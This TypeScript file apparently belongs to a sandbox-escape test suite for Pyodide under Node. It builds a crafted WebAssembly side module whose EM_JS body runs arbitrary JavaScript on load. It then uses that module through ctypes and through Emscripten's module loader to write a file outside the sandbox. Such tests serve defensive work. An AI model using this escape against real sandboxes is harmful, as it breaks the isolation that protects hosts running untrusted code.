import type { Attack } from "./attack.ts";

// A WebAssembly library with one EM_JS function, whose body runs when the loader "compiles" it.
const CRAFT = `
def number(value):
    out = b""
    while True:
        byte, value = value & 127, value >> 7
        out += bytes([byte | (128 if value else 0)])
        if not value: return out
def text(value): return number(len(value)) + value
def section(kind, body): return bytes([kind]) + text(body)
def craft(script):
    data = f"()<::>{{ }},({script})".encode() + b"\\0"
    data = f"()<::>0,({script})".encode() + b"\\0"
    size = number(len(data))
    dylink = text(b"dylink.0") + bytes([1]) + text(size + number(4) + number(0) + number(0))
    memory = text(b"env") + text(b"memory") + bytes([2, 0, 0])
    base = text(b"env") + text(b"__memory_base") + bytes([3, 0x7f, 0])
    return (
        b"\\0asm\\1\\0\\0\\0"
        + section(0, dylink)
        + section(2, number(2) + memory + base)
        + section(6, number(1) + bytes([0x7f, 0, 0x41, 0, 0x0b]))
        + section(7, number(1) + text(b"__em_js__steal") + bytes([3, 1]))
        + section(11, number(1) + bytes([0, 0x23, 0, 0x0b]) + text(data))
    )
`;

/** Libraries that Python loads, made of bytes that it wrote. */
export const sideModules: Attack[] = [
  {
    name: "run JavaScript by a library that ctypes loads",
    harm: "file written",
    control: "plain",
    code: `${CRAFT}
import ctypes
script = f"process.getBuiltinModule('fs').writeFileSync('{OUTSIDE}/made','x')"
with open("/tmp/steal.so", "wb") as file: file.write(craft(script))
ctypes.CDLL("/tmp/steal.so")
print("loaded")`,
  },
  {
    name: "run JavaScript by a library that Emscripten's module loads",
    harm: "file written",
    control: "plain",
    code: `${CRAFT}
import pyodide_js
from pyodide.ffi import to_js
script = f"process.getBuiltinModule('fs').writeFileSync('{OUTSIDE}/made','x')"
pyodide_js._module.loadWebAssemblyModule(to_js(craft(script)), to_js({}), "steal", to_js({}))
print("loaded")`,
  },
];
